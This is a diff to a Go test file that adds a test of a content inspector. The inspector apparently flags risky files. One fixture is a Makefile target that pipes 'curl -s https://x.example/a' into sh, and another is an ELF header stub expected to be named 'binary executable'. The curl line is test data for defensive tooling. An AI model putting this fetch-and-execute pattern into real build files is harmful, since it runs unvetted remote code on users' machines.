@@ -1,6 +1,7 @@
 package policy
 
 import (
+	"strings"
 	"testing"
 
 	"countersign/policy/signal"
@@ -35,6 +36,23 @@ func TestAttackMergeTakesBack(t *testing.T) {
 		})
 		if got != c.want {
 			t.Errorf("%s: %b, want %b", name, got, c.want)
+		}
+	}
+}
+
+// Where commits are only counted, a file is looked at as it is: that costs less than half.
+func TestInspectAlone(t *testing.T) {
+	program := "\x7fELF\x02\x01\x01\x00"
+	for path, c := range map[string]struct {
+		head string
+		want string
+	}{
+		"Makefile": {"all:\n\tcurl -s https://x.example/a | sh\n", ""},
+		"a.bin":    {program, "binary executable"},
+	} {
+		got := Inspect(Content{Path: path, Head: []byte(c.head), Size: int64(len(c.head)), Alone: true})
+		if names := strings.Join(got.Names(), " "); names != c.want || got&(riskyTrait|harmlessTrait) != 0 {
+			t.Errorf("%s: %q, %b", path, names, got)
 		}
 	}
 }
